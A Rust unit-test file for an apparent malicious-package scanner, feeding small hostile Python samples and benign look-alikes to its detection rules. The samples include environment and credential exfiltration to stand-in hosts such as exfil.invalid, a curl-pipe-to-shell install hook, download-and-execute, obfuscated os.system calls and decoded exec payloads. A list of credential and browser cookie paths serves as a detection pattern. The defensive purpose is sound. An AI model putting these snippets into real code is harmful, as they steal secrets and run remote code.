//! Unit tests of the Python rules: for each rule a small malicious sample and the benign
//! look-alikes (B1, B3, B4, B5, B6) that must stay below Medium. The bounds (syntax errors,
//! deep nesting, a huge line, bytes that are not UTF-8) are in `bounds`, the red team's
//! indirections (RT13) in `indirections`.

use super::{SourceRole, SourceScan, scan_source};
use crate::model::{Capability, Rule, ScanLimits, Severity};

/// Every sample is scanned with and without the lexical prefilter: both must agree.
fn scan_as(path: &str, src: &str, role: SourceRole) -> SourceScan {
    let limits = ScanLimits::default();
    let s = scan_source(path, src.as_bytes(), role, &limits);
    let full = super::scan_source_with(path, src.as_bytes(), role, &limits, false);
    assert_eq!(s, full, "the prefilter changed the scan of {src}");
    s
}

fn scan(src: &str) -> SourceScan {
    scan_as("pkg/mod.py", src, SourceRole::Module)
}

/// The finding of `rule` on `line`, failing with the whole scan when there is none.
fn finding(s: &SourceScan, rule: Rule, line: u32) -> &crate::model::Finding {
    s.findings
        .iter()
        .find(|f| f.rule == rule && f.line == Some(line))
        .unwrap_or_else(|| panic!("no {rule} on line {line}: {:#?}", s.findings))
}

fn assert_finding(s: &SourceScan, rule: Rule, severity: Severity, line: u32, snippet: &str) {
    let f = finding(s, rule, line);
    assert_eq!(f.severity, severity, "{f:#?}");
    assert_eq!(f.snippet, snippet, "{f:#?}");
    assert_eq!(f.path, "pkg/mod.py");
}

/// No finding at Medium or above.
fn assert_quiet(s: &SourceScan) {
    let loud: Vec<_> = s
        .findings
        .iter()
        .filter(|f| f.severity >= Severity::Medium)
        .collect();
    assert!(loud.is_empty(), "unexpected findings: {loud:#?}");
}

#[test]
fn m1_ctx_shape_environment_encoded_and_sent() {
    let src = r#"import base64
import requests
from os import environ


class Ctx(dict):
    def __init__(self):
        string = ""
        for _, value in environ.items():
            string += value + " "
        message_bytes = string.encode("ascii")
        encoded = base64.b64encode(message_bytes).decode("ascii")
        requests.get("https://exfil.invalid/hacked/" + encoded)
"#;
    let s = scan(src);
    assert_finding(
        &s,
        Rule::EnvExfiltration,
        Severity::High,
        13,
        r#"requests.get("https://exfil.invalid/hacked/" + encoded)"#,
    );
    for c in [
        Capability::EnvironmentRead,
        Capability::Encoding,
        Capability::Network,
    ] {
        assert!(
            s.capabilities.contains(&c),
            "{c} missing: {:?}",
            s.capabilities
        );
    }
}

#[test]
fn m1_two_aws_keys_through_self_attributes() {
    let src = r#"import os, base64, urllib.request as ur
class C:
    def __init__(self):
        self.blob = base64.b64encode(
            (os.environ["AWS_ACCESS_KEY_ID"] + ":" + os.getenv("AWS_SECRET_ACCESS_KEY")).encode())
    def send(self):
        ur.urlopen(f"http://127.0.0.1:9/?q={self.blob.decode()}")
"#;
    let s = scan(src);
    assert_eq!(
        finding(&s, Rule::EnvExfiltration, 7).severity,
        Severity::High
    );
}

#[test]
fn m1_through_a_helper_function() {
    let src = r#"import os, json, base64, socket
def collect():
    return base64.b64encode(json.dumps(dict(os.environ)).encode())
def send():
    s = socket.socket()
    s.connect(("127.0.0.1", 9))
    s.sendall(collect())
"#;
    let s = scan(src);
    assert_finding(
        &s,
        Rule::EnvExfiltration,
        Severity::High,
        7,
        "s.sendall(collect())",
    );
}

#[test]
fn b3_proxy_settings_from_environment_are_not_exfiltration() {
    let src = r#"import os, getpass, logging, requests
log = logging.getLogger(__name__)

def fetch(url):
    proxies = {"https": os.environ.get("HTTPS_PROXY")}
    bundle = os.environ["REQUESTS_CA_BUNDLE"]
    log.info("fetching as %s", getpass.getuser())
    return requests.get(url, proxies=proxies, verify=bundle, timeout=10)

def basic(user, password):
    import base64
    token = base64.b64encode(f"{user}:{password}".encode())
    return requests.get("https://example.org", headers={"Authorization": token})
"#;
    let s = scan(src);
    assert_quiet(&s);
    assert!(s.capabilities.contains(&Capability::EnvironmentRead));
    assert!(s.capabilities.contains(&Capability::Network));
}

#[test]
fn m3_decode_fed_to_exec() {
    let src = r#"import base64, marshal, zlib
from base64 import b64decode as d
exec(base64.b64decode("cHJpbnQoMSk="))
exec(marshal.loads(zlib.decompress(b"x")))
payload = d(DATA)
code = payload.decode()
__import__("builtins").exec(code)
"#;
    let s = scan(src);
    assert_finding(
        &s,
        Rule::DecodeExec,
        Severity::High,
        3,
        r#"exec(base64.b64decode("cHJpbnQoMSk="))"#,
    );
    assert_finding(
        &s,
        Rule::DecodeExec,
        Severity::High,
        4,
        r#"exec(marshal.loads(zlib.decompress(b"x")))"#,
    );
    assert_finding(
        &s,
        Rule::DecodeExec,
        Severity::High,
        7,
        r#"__import__("builtins").exec(code)"#,
    );
    assert!(s.capabilities.contains(&Capability::DecodeToCode));
    assert!(s.capabilities.contains(&Capability::DynamicCode));
}

#[test]
fn b1_setup_py_version_exec_is_benign() {
    let src = r#"from setuptools import setup
about = {}
exec(open("pkg/_version.py").read(), about)
with open("pkg/__init__.py") as f:
    for line in f:
        if line.startswith("__version__"):
            version = eval(line.split("=")[1])
setup(name="pkg", version=about["__version__"])
"#;
    let s = scan_as("setup.py", src, SourceRole::SetupPy);
    assert!(s.findings.is_empty(), "{:#?}", s.findings);
    assert!(!s.capabilities.contains(&Capability::DynamicCode));
}

#[test]
fn b6_decoded_image_written_to_disk_is_benign() {
    let src = r#"import base64
ICON = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
def write_icon(path):
    with open(path, "wb") as f:
        f.write(base64.b64decode(ICON))
def cert():
    return base64.b64decode(CERT_DER)
"#;
    let s = scan(src);
    assert_quiet(&s);
    assert!(s.capabilities.contains(&Capability::Encoding));
    assert!(!s.capabilities.contains(&Capability::DecodeToCode));
}

#[test]
fn m4_download_chmod_start() {
    let src = r#"import os, subprocess, urllib.request
def go():
    path = "/tmp/x"
    urllib.request.urlretrieve("http://127.0.0.1:9/x", path)
    os.chmod(path, 0o755)
    subprocess.Popen([path])
"#;
    let s = scan(src);
    assert_finding(
        &s,
        Rule::DownloadExecute,
        Severity::High,
        5,
        "os.chmod(path, 0o755)",
    );
    assert_finding(
        &s,
        Rule::DownloadExecute,
        Severity::High,
        6,
        "subprocess.Popen([path])",
    );
    assert!(s.capabilities.contains(&Capability::FileWrite));
    assert!(s.capabilities.contains(&Capability::ProcessSpawn));
}

#[test]
fn m4_fetched_code_executed() {
    let s = scan("import requests\nexec(requests.get('http://127.0.0.1:9/p').text)\n");
    assert_eq!(
        finding(&s, Rule::DownloadExecute, 2).severity,
        Severity::High
    );
    let src = "import socket\ndef f():\n    s = socket.create_connection(('h.invalid', 9))\n    code = s.recv(65536)\n    exec(code)\n";
    let s = scan(src);
    let f = finding(&s, Rule::DownloadExecute, 5);
    assert_eq!(
        (f.severity, f.snippet.as_str()),
        (Severity::High, "exec(code)")
    );
}

#[test]
fn m4_unrelated_download_and_process_are_quiet() {
    let src = r#"import subprocess, urllib.request
def go():
    urllib.request.urlretrieve("https://example.org/data.csv", "data.csv")
    subprocess.run(["git", "status"])
"#;
    assert_quiet(&scan(src));
}

#[test]
fn m5_pth_lines() {
    let limits = ScanLimits::default();
    let bad = "import os, subprocess; subprocess.Popen(['python', '-c', 'print(1)'])";
    let s = scan_source("zzz.pth", bad.as_bytes(), SourceRole::PthLine, &limits);
    let f = s
        .findings
        .iter()
        .find(|f| f.rule == Rule::ExecutablePth)
        .expect("M5 finding");
    assert_eq!(
        (f.severity, f.line, f.snippet.as_str()),
        (Severity::High, Some(1), bad)
    );
    assert!(s.capabilities.contains(&Capability::ExecutablePth));

    let b64 = "import base64;exec(base64.b64decode('cHJpbnQoMSk='))";
    let s = scan_source(
        "litellm_init.pth",
        b64.as_bytes(),
        SourceRole::PthLine,
        &limits,
    );
    assert!(
        s.findings
            .iter()
            .any(|f| f.rule == Rule::ExecutablePth && f.severity == Severity::High)
    );

    // B4: setuptools' own executable .pth line.
    let b4 = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ";
    let s = scan_source(
        "distutils-precedence.pth",
        b4.as_bytes(),
        SourceRole::PthLine,
        &limits,
    );
    assert!(s.capabilities.contains(&Capability::ExecutablePth));
    assert_quiet(&s);
    // A path line is not executable.
    let s = scan_source("x.pth", b"/opt/lib/site", SourceRole::PthLine, &limits);
    assert!(s.capabilities.is_empty() && s.findings.is_empty());
}

#[test]
fn m6_shady_endpoints_in_code() {
    let src = r#"import requests
HOOK = "https://webhook.site/1234"
def send(data):
    requests.post(HOOK, data=data)
def other():
    return "http://45.9.148.10/payload"
BOT = "https://api.telegram.org/bot123:abc/sendMessage"
"#;
    let s = scan(src);
    assert_finding(
        &s,
        Rule::ShadyEndpoint,
        Severity::High,
        2,
        r#"HOOK = "https://webhook.site/1234""#,
    );
    assert_finding(
        &s,
        Rule::ShadyEndpoint,
        Severity::Medium,
        6,
        r#"return "http://45.9.148.10/payload""#,
    );
    // a messaging platform's bot API: legitimate integrations call it (tqdm.contrib.telegram)
    assert_eq!(
        finding(&s, Rule::ShadyEndpoint, 7).severity,
        Severity::Medium
    );
}

#[test]
fn b5_benign_urls_comments_docstrings_and_tests() {
    let src = r#""""Post to https://webhook.site/abc when done."""
import requests
# see http://45.9.148.10/x and https://evil.xyz
def f():
    """Example: https://discord.com/api/webhooks/1/x"""
    requests.get("http://127.0.0.1:8000/")
    requests.get("http://192.168.1.10/")
    requests.get("http://169.254.169.254/latest/meta-data/")
    requests.get("http://0.0.0.0:80/")
    return ["http://8.8.8.8", "https://1.1.1.1/dns-query", "http://localhost/", "https://xn--bcher-kva.example/"]
"#;
    let s = scan(src);
    assert!(s.findings.is_empty(), "{:#?}", s.findings);
    let t = scan_as(
        "tests/test_hooks.py",
        "URL = 'https://webhook.site/x'\n",
        SourceRole::Module,
    );
    assert_eq!(t.findings.len(), 1);
    assert_eq!(t.findings[0].severity, Severity::Low);
}

#[test]
fn m6_xyz_host_and_bare_ip_with_socket() {
    let src = r#"import socket
def c():
    s = socket.create_connection(("45.9.148.10", 4444))
    s.sendall(b"x")
    return "cdn.evil.xyz"
"#;
    let s = scan(src);
    assert_eq!(finding(&s, Rule::ShadyEndpoint, 3).severity, Severity::High);
    assert_eq!(finding(&s, Rule::ShadyEndpoint, 5).severity, Severity::High);
    // A version-looking string beside no network is not an address.
    assert!(scan("V = '1.2.3.4'\n").findings.is_empty());
    assert!(scan("SIDE = 'frame.top'\n").findings.is_empty());
}

#[test]
fn m7_credential_file_sent() {
    let src = r#"import os, requests
def steal():
    with open(os.path.expanduser("~/.aws/credentials")) as f:
        data = f.read()
    requests.post("https://exfil.invalid/", data={"c": data})
"#;
    let s = scan(src);
    assert_finding(
        &s,
        Rule::CredentialTheft,
        Severity::High,
        5,
        r#"requests.post("https://exfil.invalid/", data={"c": data})"#,
    );
    assert!(s.capabilities.contains(&Capability::CredentialFileRead));

    let alone = scan("import os\nPATH = os.path.expanduser('~/.pypirc')\n");
    assert_finding(
        &alone,
        Rule::CredentialTheft,
        Severity::Low,
        2,
        "PATH = os.path.expanduser('~/.pypirc')",
    );
    // Prose that mentions a file name is not a path.
    let prose = scan(
        "import requests\ndef f(info):\n    log.info('Authenticating as %s (from .pypirc)', info)\n    requests.get(URL)\n",
    );
    assert!(prose.findings.is_empty(), "{prose:?}");
    assert!(!prose.capabilities.contains(&Capability::CredentialFileRead));
    for path in [
        "C:\\Users\\x\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
        "~/.ssh/id_ed25519",
        ".aws/credentials",
        "/home/u/.mozilla/firefox/p/cookies.sqlite",
        "~/.pypirc",
        "~/.docker/config.json",
        "~/.git-credentials",
        "profile/logins.json",
        "profile/key4.db",
        "Default/Network/Cookies",
        "SELECT host, value FROM cookies",
        "select origin_url from logins",
    ] {
        // Any case, either slash: the quick test before the searches lets every needle by.
        for p in [
            path.to_owned(),
            path.to_ascii_uppercase(),
            path.replace('/', "\\"),
        ] {
            assert!(super::names::is_credential_path(&p), "{p}");
        }
    }
    for text in [
        "cookies",
        "set_cookies",
        "see ~/.pypirc.example",
        "Login Data export",
    ] {
        assert!(!super::names::is_credential_path(text), "{text}");
    }
    // In a comment or docstring it is nothing.
    let doc = scan("\"\"\"Reads ~/.aws/credentials.\"\"\"\n# ~/.ssh/id_rsa\n");
    assert!(
        doc.findings.is_empty() && doc.capabilities.is_empty(),
        "{doc:?}"
    );
}

#[test]
fn m8_silent_process() {
    let src = r#"import subprocess
from subprocess import Popen as P, DEVNULL
P(["x"], stdout=DEVNULL, stderr=DEVNULL, creationflags=subprocess.DETACHED_PROCESS | subprocess.CREATE_NO_WINDOW)
def later():
    subprocess.Popen(["x"], stdout=subprocess.DEVNULL, start_new_session=True)
def plain():
    subprocess.run(["x"], stdout=subprocess.DEVNULL)
"#;
    let s = scan(src);
    assert_eq!(finding(&s, Rule::SilentProcess, 3).severity, Severity::High);
    assert_finding(
        &s,
        Rule::SilentProcess,
        Severity::Medium,
        5,
        "subprocess.Popen([\"x\"], stdout=subprocess.DEVNULL, start_new_session=True)",
    );
    assert!(!s.findings.iter().any(|f| f.line == Some(7)));
    // In a function of a package's __init__.py it waits for a call: Medium.
    let init = scan_as("pkg/__init__.py", src, SourceRole::Module);
    assert_eq!(
        finding(&init, Rule::SilentProcess, 3).severity,
        Severity::High
    );
    assert_eq!(
        finding(&init, Rule::SilentProcess, 5).severity,
        Severity::Medium
    );
    let setup = scan_as(
        "setup.py",
        &src.replace("P([", "pass\nQ(["),
        SourceRole::SetupPy,
    );
    assert_eq!(
        finding(&setup, Rule::SilentProcess, 6).severity,
        Severity::High
    );
}

#[test]
fn m9_steganography() {
    let src = r#"from PIL import Image
def load(path):
    img = Image.open(path)
    bits = "".join(str(p[0] & 1) for p in img.getdata())
    exec(bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)))
def tail(data):
    exec(data[data.index(b"IEND") + 8:])
"#;
    let s = scan(src);
    assert_eq!(finding(&s, Rule::Steganography, 5).severity, Severity::High);
    assert_eq!(finding(&s, Rule::Steganography, 7).severity, Severity::High);
    // Reading an image without running anything is quiet.
    assert_quiet(&scan(
        "from PIL import Image\ndef size(p):\n    return Image.open(p).size\n",
    ));
}

#[test]
fn m10_obfuscation() {
    let src = r#"getattr(__import__("o" + "s"), "sys" + "tem")("id")
name = chr(104) + chr(101) + chr(108) + chr(108) + chr(111) + chr(119) + chr(111) + chr(114)
msg = "".join(chr(c) for c in [104, 101, 108, 108, 111, 32, 119, 111, 114])
getattr(self, "visit_" + kind)(node)
"#;
    let s = scan(src);
    let f = finding(&s, Rule::Obfuscation, 1);
    assert_eq!(f.severity, Severity::High);
    assert!(f.message.contains("os.system"), "{f:?}");
    assert!(s.capabilities.contains(&Capability::ProcessSpawn));
    assert_eq!(finding(&s, Rule::Obfuscation, 2).severity, Severity::Medium);
    assert_eq!(finding(&s, Rule::Obfuscation, 3).severity, Severity::Medium);
    assert!(
        !s.findings.iter().any(|f| f.line == Some(4)),
        "{:#?}",
        s.findings
    );
    // A name built by a chr join, fed to getattr on the builtins, importing a computed module.
    let src = r#"NAME = "".join([chr(95), chr(95), chr(105), chr(109), chr(112), chr(111), chr(114), chr(116), chr(95), chr(95)])
mod = getattr(__builtins__, NAME)("".join(chr(c) for c in [115, 117, 98, 112, 114, 111, 99, 101, 115, 115]))
"#;
    let s = scan(src);
    let f = finding(&s, Rule::Obfuscation, 2);
    assert_eq!(f.severity, Severity::High, "{f:?}");
    assert!(f.message.contains("subprocess"), "{f:?}");
    // A constant module name through a variable is an ordinary import.
    assert_quiet(&scan(
        "import importlib\nMOD = 'json'\nm = importlib.import_module(MOD)\n",
    ));
    // A short chr join is ordinary.
    assert_quiet(&scan(
        "SEP = chr(0) + chr(1)\nALPHA = ''.join(chr(i) for i in range(97, 123))\n",
    ));
}

#[test]
fn m2_install_hook_override() {
    let src = r#"import subprocess
from setuptools import setup
from setuptools.command.install import install
from setuptools.command.build_ext import build_ext

def payload():
    subprocess.call("curl http://127.0.0.1:9/x | sh", shell=True)

class PostInstall(install):
    def run(self):
        install.run(self)
        payload()

class BuildExt(build_ext):
    def run(self):
        subprocess.check_call(["make"])
        build_ext.run(self)

setup(name="x", cmdclass={"install": PostInstall, "build_ext": BuildExt})
"#;
    let s = scan_as("setup.py", src, SourceRole::SetupPy);
    let f = finding(&s, Rule::InstallHookOverride, 7);
    assert_eq!(f.severity, Severity::High);
    assert!(f.message.contains("PostInstall"));
    assert!(s.capabilities.contains(&Capability::InstallHook));
    // B2: build_ext never gives M2.
    assert_eq!(
        s.findings
            .iter()
            .filter(|f| f.rule == Rule::InstallHookOverride)
            .count(),
        1
    );

    let quiet = r#"from setuptools import setup
from setuptools.command.develop import develop
class Dev(develop):
    def run(self):
        print("hello")
        develop.run(self)
setup(cmdclass=dict(develop=Dev))
"#;
    let s = scan_as("setup.py", quiet, SourceRole::SetupPy);
    assert!(s.capabilities.contains(&Capability::InstallHook));
    assert!(s.findings.is_empty(), "{:#?}", s.findings);
    let via_dict = "import os\nfrom setuptools import setup\nfrom setuptools.command.egg_info import egg_info\nclass E(egg_info):\n    def run(self):\n        os.system('id')\nopts = {'name': 'x', 'cmdclass': {'egg_info': E}}\nsetup(**opts)\n";
    let s = scan_as("setup.py", via_dict, SourceRole::SetupPy);
    assert_eq!(
        finding(&s, Rule::InstallHookOverride, 6).severity,
        Severity::High
    );
    let b2 = scan_as(
        "setup.py",
        "from setuptools import setup\nsetup(cmdclass={'build_ext': B, 'sdist': S})\n",
        SourceRole::SetupPy,
    );
    assert!(!b2.capabilities.contains(&Capability::InstallHook));
}

#[test]
fn import_aliases_resolve() {
    let s = scan("import os as o\no.system('id')\n");
    assert!(s.capabilities.contains(&Capability::ProcessSpawn));
    let s = scan("from subprocess import Popen\nPopen(['id'])\n");
    assert!(s.capabilities.contains(&Capability::ProcessSpawn));
    let s = scan("from os import environ\nx = environ['HOME']\n");
    assert!(s.capabilities.contains(&Capability::EnvironmentRead));
    let s = scan("import socket\nsocket.gethostname()\n");
    assert!(s.capabilities.is_empty(), "{:?}", s.capabilities);
    // A comment naming os.system is nothing.
    assert!(scan("# os.system('id')\n").capabilities.is_empty());
}

#[test]
fn capabilities_of_calls() {
    let caps = |src: &str| scan(src).capabilities;
    use Capability::*;
    let cases: [(&str, Option<Capability>); 12] = [
        (
            "import importlib\nimportlib.import_module(name)\n",
            Some(DynamicCode),
        ),
        ("import importlib\nimportlib.import_module('json')\n", None),
        ("import os\ngetattr(os, name)\n", Some(DynamicCode)),
        ("getattr(obj, name)\n", None),
        ("open(p, 'wb').write(b)\n", Some(FileWrite)),
        ("open(p).read()\n", None),
        ("import os\nos.chmod(p, 0o755)\n", Some(FileWrite)),
        (
            "import http.client\nhttp.client.HTTPSConnection('h')\n",
            Some(Network),
        ),
        (
            "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        await s.get(u)\n",
            Some(Network),
        ),
        ("from os import *\nsystem('id')\n", Some(ProcessSpawn)),
        ("import zlib\nzlib.decompress(b)\n", Some(Encoding)),
        ("import marshal\nmarshal.loads(b)\n", Some(DynamicCode)),
    ];
    for (src, want) in cases {
        let got = caps(src);
        match want {
            Some(c) => assert!(got.contains(&c), "{src:?}: {got:?}"),
            None => assert!(got.is_empty(), "{src:?}: {got:?}"),
        }
    }
}

#[test]
fn m5_exec_of_a_visible_literal_is_medium_and_hidden_code_high() {
    let limits = ScanLimits::default();
    // coverage's a1_coverage.pth: visible code in a literal
    let coverage = "import sys; exec('import os\\nif os.getenv(\"COVERAGE_PROCESS_START\"):\\n import coverage; coverage.process_startup()')";
    let s = scan_source(
        "a1_coverage.pth",
        coverage.as_bytes(),
        SourceRole::PthLine,
        &limits,
    );
    let f = s
        .findings
        .iter()
        .find(|f| f.rule == Rule::ExecutablePth)
        .expect("M5");
    assert_eq!(f.severity, Severity::Medium, "{f:?}");
    // the litellm shape, a literal that names subprocess, and a computed argument: High
    for line in [
        "import base64; exec(base64.b64decode('cHJpbnQoMSk='))",
        "import os; exec('import subprocess; subprocess.Popen([\"sh\"])')",
        "import os; exec(os.environ['X'])",
    ] {
        let s = scan_source("zzz.pth", line.as_bytes(), SourceRole::PthLine, &limits);
        assert!(
            s.findings
                .iter()
                .any(|f| f.rule == Rule::ExecutablePth && f.severity == Severity::High),
            "{line}: {:#?}",
            s.findings
        );
    }
}

#[test]
fn m4_in_a_legacy_bootstrap_script_is_medium() {
    let src = "from urllib.request import urlopen\nez = {}\nexec(urlopen('https://bootstrap.pypa.io/ez_setup.py').read(), ez)\n";
    let boot = scan_as("bootstrap.py", src, SourceRole::Module);
    assert_eq!(
        finding(&boot, Rule::DownloadExecute, 3).severity,
        Severity::Medium
    );
    let other = scan_as("pkg/loader.py", src, SourceRole::Module);
    assert_eq!(
        finding(&other, Rule::DownloadExecute, 3).severity,
        Severity::High
    );
}

#[test]
fn a_lone_carriage_return_ends_a_line_and_foreign_codings_are_flagged() {
    // Python runs the second statement; tree-sitter alone would see one comment line
    let cr = "# x\rimport os, base64, urllib.request\rurllib.request.urlopen('http://c.invalid/?' + base64.b64encode(str(os.environ).encode()).decode())\r";
    let s = scan(cr);
    assert!(
        s.findings.iter().any(|f| f.rule == Rule::EnvExfiltration),
        "{:#?}",
        s.findings
    );
    for (src, codec) in [
        ("# -*- coding: utf-7 -*-\n#+AAo-import os\n", Some("utf-7")),
        (
            "#!/usr/bin/env python\n# vim: set fileencoding=UTF_16 :\n",
            Some("utf-16"),
        ),
        ("# -*- coding: utf-8 -*-\nx = 1\n", None),
        ("# coding=latin-1\nx = 1\n", None),
        ("x = 1\n# coding: utf-7\n", Some("utf-7")),
        ("x = 1\ny = 2\n# coding: utf-7\n", None),
    ] {
        assert_eq!(super::foreign_coding(src).as_deref(), codec, "{src:?}");
    }
    let s = scan("# -*- coding: utf-7 -*-\n#+AAo-import os\n");
    assert!(
        s.findings
            .iter()
            .any(|f| f.rule == Rule::Obfuscation && f.severity == Severity::High),
        "{:#?}",
        s.findings
    );
}

mod bounds;
mod indirections;
